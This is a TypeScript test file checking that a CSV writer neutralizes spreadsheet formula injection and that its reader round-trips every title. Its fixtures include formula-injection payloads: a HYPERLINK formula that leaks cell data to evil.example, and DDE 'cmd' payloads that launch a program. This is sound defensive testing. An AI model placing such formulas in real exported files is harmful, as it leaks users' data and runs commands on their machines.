// The one CSV writer (src/shared/csv.cts): a cell a spreadsheet would run as a formula is written
// neutralized, and our importer's CSV reader gives every text back exactly as it was.
import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { readCsv } from "../../src/import-formats/csv.cjs";
import { newNotes } from "../../src/import-formats/index.cjs";
import { csvCell, csvStream, csvText } from "../../src/shared/csv.cjs";

/** What spreadsheets (Excel, LibreOffice, Google Sheets, Numbers) treat as the start of a formula. */
const FORMULA_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
  "\uFF0B1",
  "\uFF0D1",
  "\uFF20SUM(A1)",
];
/** Texts that start like a neutralized cell: they must come back as they are too. */
const QUOTED_TITLES = ["'=already quoted", "''+twice", "'Round Midnight", 'Plain, "quoted" title'];

/** A cell starts a formula when its first character is one of these (what OWASP lists, and full-width forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

async function readBack(text: string) {
  const rows = [];
  for await (const row of readCsv(Readable.from([Buffer.from(text)]), "test.csv", newNotes())) rows.push(row.fields);
  return rows;
}

describe("the CSV writer", () => {
  it("writes no cell that starts with a formula character, and our reader reads every title back unchanged", async () => {
    const titles = [...FORMULA_TITLES, ...QUOTED_TITLES];
    const text = csvText(
      ["title", "year"],
      titles.map((title) => ({ title, year: -1 })),
      { header: true },
    );
    const { parse } = await import("csv-parse/sync");
    const cells = (parse(text, { columns: true }) as { title: string; year: string }[]).map((row) => row.title);
    for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
    expect(cells[0]).toBe(`'${FORMULA_TITLES[0]}`);
    // A negative number is data, not a formula: left as it is.
    expect(text).toContain(",-1\n");
    expect((await readBack(text)).map((row) => row.title)).toEqual(titles);
    for (const title of titles) expect(csvCell(cells[titles.indexOf(title)])).toBe(title);
  });

  it("the streaming form writes the same text", async () => {
    const stream = csvStream(["Title", "Year"]);
    const chunks: string[] = [];
    stream.on("data", (chunk) => chunks.push(String(chunk)));
    const done = new Promise((resolve) => stream.on("end", resolve));
    for (const title of FORMULA_TITLES) stream.write([title, "2000"]);
    stream.end();
    await done;
    expect(chunks.join("")).toBe(
      csvText(
        ["Title", "Year"],
        FORMULA_TITLES.map((title) => [title, "2000"]),
        { header: true },
      ),
    );
  });
});
